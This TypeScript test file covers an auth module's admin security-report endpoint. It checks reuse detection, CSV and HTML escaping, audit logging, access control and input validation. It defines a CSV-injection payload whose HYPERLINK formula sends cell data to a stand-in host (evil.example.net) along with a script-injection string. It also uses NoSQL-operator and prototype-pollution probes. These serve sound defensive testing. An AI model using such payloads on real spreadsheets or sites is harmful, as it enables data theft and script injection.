import { setTimeout as delay } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import helmet from 'helmet';
import { Types } from 'mongoose';
import {
  AuditService,
  AuthModule,
  type SecurityReport,
  SecurityReportService,
  UsersService,
} from '../../src/index.js';
import { databaseUri } from '../support/database.js';
import { DatabaseProxy } from '../support/database-proxy.js';
import { ADAPTERS, authOptions, HostApp } from '../support/host-app.js';
import {
  anotherSession,
  type Answer,
  type Api,
  expectError,
  expectGuardRefusal,
  expectInvalidField,
  expectNotStored,
  newSession,
  PASSWORD,
  refreshed,
} from '../support/http.js';

const ADMIN = 'root@example.com';
const PATH = '/auth/admin/security-report';
const HOSTILE = '=HYPERLINK("https://evil.example.net/?"&A1,"<script>alert(1)</script>")';
const TODAY = () => new Date().toISOString().slice(0, 10);

/** Opened like an adopter's application with helmet, behind a trusted proxy. */
async function open(adapter: 'express' | 'fastify', uri: string, options = authOptions()): Promise<HostApp> {
  const host = await HostApp.startWith(adapter, { imports: [AuthModule.forRoot(options)] }, uri, (app) => {
    app.use(helmet());
  });
  const users = host.app.get(UsersService);
  if (!(await users.findByEmail(ADMIN)))
    await users.register({ email: ADMIN, password: PASSWORD, roles: ['admin'] });
  return host;
}

describe.each(ADAPTERS)('the security report on %s', (adapter) => {
  const uri = databaseUri('report');
  // The same keys: two instances of one service.
  const options = authOptions({ refreshToken: { gracePeriod: 0, lostResponseWindow: 0 } });
  let host: HostApp;
  let other: HostApp;
  let api: Api;
  let token: string;

  beforeAll(async () => {
    host = await open(adapter, uri, options);
    other = await open(adapter, uri, options);
    api = host.api();
    token = (await anotherSession(api, ADMIN)).accessToken;
  });
  afterAll(async () => {
    await other?.app.close();
    await host?.stop();
  });

  const get = async (query = '', to: Api = api): Promise<Answer> => {
    const answer = await to.send('GET', `${PATH}?${query}`, { token });
    expect({ status: answer.status, body: answer.status === 200 ? '' : answer.text }).toEqual({
      status: 200,
      body: '',
    });
    expectNotStored(answer);
    expect(answer.headers['x-content-type-options']).toBe('nosniff');
    return answer;
  };
  const report = async (query = '', to: Api = api) => (await get(query, to)).json as SecurityReport;
  const totalOf = ({ totals }: SecurityReport, name: string) =>
    totals.find(({ type }) => type === name)?.count ?? 0;

  it('includes the counts of every instance, and this one’s latest events at once', async () => {
    const before = await report();
    const { email, userId } = await newSession(api);
    for (let attempt = 0; attempt < 3; attempt += 1) await api.login({ email, password: 'wrong' });
    await other.api().login({ email, password: 'wrong' });
    await other.api().login({ email: 'nobody@example.com', password: 'wrong' });
    // The other instance writes its counts for its own report.
    expect(totalOf(await report('', other.api()), 'login.failed')).toBeGreaterThanOrEqual(2);
    const after = await report();
    expect(totalOf(after, 'login.failed') - totalOf(before, 'login.failed')).toBe(5);
    expect(after.days).toHaveLength(30);
    expect(after.days.at(-1)).toMatchObject({
      day: after.to,
      counts: { 'login.failed': totalOf(after, 'login.failed') },
    });
    const reasonOf = (reason: string) => after.reasons.find((each) => each.reason === reason)?.count;
    expect([reasonOf('wrong_password'), reasonOf('unknown_user')]).toEqual([4, 1]);
    expect(after.topSources).toEqual([{ key: expect.any(String), count: 5, error: 0 }]);
    expect(after.topTargets).toEqual([{ key: userId, email, count: 4, error: 0 }]);
    expect(after.sessions.active).toBeGreaterThan(1);
    expect(after.sessions.isAtLeast).toBe(false);
    expect(new Set(after.indexes.map(({ state }) => state))).toEqual(new Set(['ok']));
    expect(after.indexes.map(({ collection }) => collection)).toContain('security_daily');
  });

  it('shows a reuse with both sides, its consequences, and only live sessions', async () => {
    const thief = host.api({ 'user-agent': HOSTILE });
    const first = await newSession(api);
    const { active } = (await report()).sessions;
    await refreshed(api, first);
    // Within the same millisecond it would count as a race of tabs.
    await delay(5);
    expectError(await thief.refresh(first.refreshToken), 401, 'REFRESH_TOKEN_REUSED');
    const { reuseCases, sessions } = await report();
    expect(sessions.active).toBe(active - 1);
    expect(reuseCases[0]).toMatchObject({
      userId: first.userId,
      sessionId: first.id,
      classification: expect.stringMatching(/^\w+$/),
      presentedGeneration: 0,
      generation: 1,
      revoked: true,
      source: { userAgent: HOSTILE },
      lastUse: { userAgent: expect.stringContaining('Chrome'), at: expect.stringMatching(/Z$/) },
    });
    expect((await report(`to=${TODAY()}&from=${TODAY()}`)).reuseCases).toEqual(reuseCases);
    expect((await report('to=2020-01-01')).reuseCases).toEqual([]);
  });

  it('has no address for a deleted user, and works with ids of any form', async () => {
    const targets = [new Types.ObjectId().toHexString(), 'nonsense', '$where', '__proto__'];
    await host.connection.collection('security_daily').insertOne({
      _id: '2020-05-05 top other' as never,
      day: '2020-05-05',
      instance: 'other',
      sources: [],
      targets: targets.map((key) => ({ key, count: 1, error: 0 })),
      expiresAt: new Date('2100-01-01'),
    });
    const { topTargets, days, totals } = await report('from=2020-05-05&to=2020-05-05');
    expect(topTargets.map(({ key, email }) => [key, email])).toEqual(targets.map((key) => [key, null]));
    expect(days).toEqual([{ day: '2020-05-05', counts: {} }]);
    expect(totals.every(({ count }) => count === 0)).toBe(true);
  });

  it("as CSV contains no formula from users' text", async () => {
    const answer = await get(`format=csv&from=${TODAY()}&to=${TODAY()}`);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(answer.headers['content-disposition']).toBe(
      `attachment; filename="security-report-${TODAY()}-${TODAY()}.csv"`,
    );
    const lines: Record<string, string>[] = parse(answer.text, { bom: true, columns: true });
    const reuse = lines.find(({ section }) => section === 'reuseCases');
    expect(reuse?.userAgent).toBe(`'${HOSTILE}`);
    for (const line of lines) for (const cell of Object.values(line)) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it('as HTML has its own policy instead of the host’s, and no markup of users', async () => {
    const answer = await get('format=html');
    expect(answer.headers['content-type']).toBe('text/html; charset=utf-8');
    const policy = answer.headers['content-security-policy'] as string;
    expect(policy).toMatch(/^default-src 'none'; .*frame-ancestors 'none'$/);
    // Part of helmet's policy, which other answers have.
    expect(policy).not.toContain('upgrade-insecure-requests');
    expect((await get()).headers['content-security-policy']).toContain('upgrade-insecure-requests');
    expect(answer.text).toMatch(/^<!doctype html>/);
    expect(answer.text).not.toContain('<script>alert(1)');
  });

  it('is JSON if no format is named, whatever a browser accepts', async () => {
    const answer = await api.send('GET', PATH, { token, headers: { accept: 'text/html' } });
    expect(answer.headers['content-type']).toMatch(/^application\/json/);
    expect(answer.headers['content-disposition']).toBeUndefined();
    expect(answer.json.from < answer.json.to).toBe(true);
  });

  it('logs every read, with the reader', async () => {
    // Earlier reads are counted once they are written.
    await other.app.get(AuditService).flush();
    const views = async () => totalOf(await report(), 'records.viewed');
    const before = await views();
    await get('format=csv');
    expect(await views()).toBe(before + 2);
    const events = await api.send('GET', '/auth/admin/events?type=records.viewed&limit=1', { token });
    const { userId } = await anotherSession(api, ADMIN);
    expect(events.json.items[0]).toMatchObject({ by: userId, evidence: { records: 'security_report' } });
    expect(events.json.items[0]).not.toHaveProperty('userId');
  });

  it('is for administrators: everyone else gets the same refusal, whatever they ask for', async () => {
    const { accessToken } = await newSession(api);
    for (const query of ['', 'format=csv', 'format=nonsense', 'from=x']) {
      expectError(await api.send('GET', `${PATH}?${query}`, { token: accessToken }), 403, 'FORBIDDEN');
      expectGuardRefusal(await api.send('GET', `${PATH}?${query}`), 'ACCESS_TOKEN_MISSING');
    }
  });

  it.each([
    ['format=pdf', 'format'],
    ['format=csv&format=json', 'format'],
    ['from=yesterday', 'from'],
    ['from=2026-02-30', 'from'],
    ['from=2026-02-30T12:00:00Z', 'from'],
    ['to=2026-02-29T00:00%2B02:00', 'to'],
    ['to=2026-01-31T25:00Z', 'to'],
    ['to[$ne]=1', 'to[$ne]'],
    ['from=2026-02-02&to=2026-02-01', 'to'],
    ['from=2020-01-01&to=2026-01-01', 'from'],
    ['from=0000-01-01&to=0000-01-02', 'from'],
    ['limit=5', 'limit'],
  ])('refuses the query %s', async (query, field) => {
    const answer = await api.send('GET', `${PATH}?${query}`, { token });
    if (field.includes('[')) expectError(answer, 400, 'VALIDATION_FAILED');
    else expectInvalidField(answer, field);
  });

  it('accepts moments, and future days', async () => {
    const { from, to } = await report('from=2026-03-01T23:30:00-02:00&to=2026-03-02');
    expect([from, to]).toEqual(['2026-03-02', '2026-03-02']);
    expect((await report('from=9999-12-30&to=9999-12-31')).days).toHaveLength(2);
  });

  it('is available to a host without the route', async () => {
    const made = await host.app.get(SecurityReportService).report({ to: new Date() });
    expect(made.generatedAt).toBeInstanceOf(Date);
    expect(totalOf(made, 'user.registered')).toBeGreaterThan(0);
  });
});

describe.each(ADAPTERS)('without its requirements, on %s', (adapter) => {
  it('there is no report without an audit log', async () => {
    const host = await open(adapter, databaseUri('report_off'), authOptions({ audit: false }));
    try {
      const { accessToken: token } = await anotherSession(host.api(), ADMIN);
      expectError(await host.api().send('GET', PATH, { token }), 404, 'NOT_FOUND');
    } finally {
      await host.stop();
    }
  });

  it('soon answers that it is unavailable if the database is down', async () => {
    const proxy = await DatabaseProxy.open('report_away');
    const host = await open(adapter, proxy.uri);
    try {
      const { accessToken: token } = await anotherSession(host.api(), ADMIN);
      await host.api().login({ email: ADMIN, password: 'wrong' });
      proxy.cut();
      for (const format of ['json', 'csv', 'html']) {
        const answer = await host.api().send('GET', `${PATH}?format=${format}`, { token });
        expectError(answer, 503, 'TEMPORARILY_UNAVAILABLE');
        expect(answer.headers['content-disposition']).toBeUndefined();
      }
    } finally {
      proxy.restore();
      await host.stop();
      await proxy.close();
    }
  });
});
